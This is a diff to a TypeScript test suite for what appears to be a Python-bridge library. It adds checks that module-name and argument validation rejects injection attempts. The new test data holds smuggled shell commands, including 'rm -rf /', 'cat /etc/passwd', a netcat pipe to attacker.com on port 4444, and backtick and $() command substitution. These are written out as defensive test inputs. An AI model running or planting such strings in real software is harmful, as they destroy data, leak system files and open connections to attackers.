@@ -26,6 +26,7 @@ try {
     ["an unknown key", () => loose(probe.describe)({ height: 1 })],
     ["a key of a wrong type", () => loose(probe.describe)({ width: "wide" })],
     ["arguments for none", () => loose(probe.calls)(1)],
+    ["another literal", () => loose(probe.choose)("`${evil}` ")],
   ] as const) {
     const error = await fails(ValidationError, run, what);
     same(error instanceof SecurityError && error.code.length > 0 && error.timestamp instanceof Date, true, `${what}: a security error`);
@@ -61,8 +62,12 @@ try {
 const { describe } = await import("calculator-python");
 const second = await connect({ host: host() });
 try {
-  for (const [module, digest] of [["math", "00"], ["os", "00"], ["subprocess", "00"], ["builtins", "00"]] as const) {
-    await fails(PolicyError, () => describe(module, digest, ["system"]).call(0, ["id"]), `the module ${module}`);
+  const modules = [
+    ...["math", "os", "subprocess", "builtins", "tywrap_probe.os", "json.decoder", "", "__main__"],
+    ...["math; rm -rf /", "numpy && cat /etc/passwd", "pandas | nc attacker.com 4444", "scipy `whoami`", "requests $(id)"],
+  ];
+  for (const module of modules) {
+    await fails(PolicyError, () => describe(module, "00", ["system"]).call(0, ["id"]), `the module ${module}`);
   }
 } finally {
   await second.close();
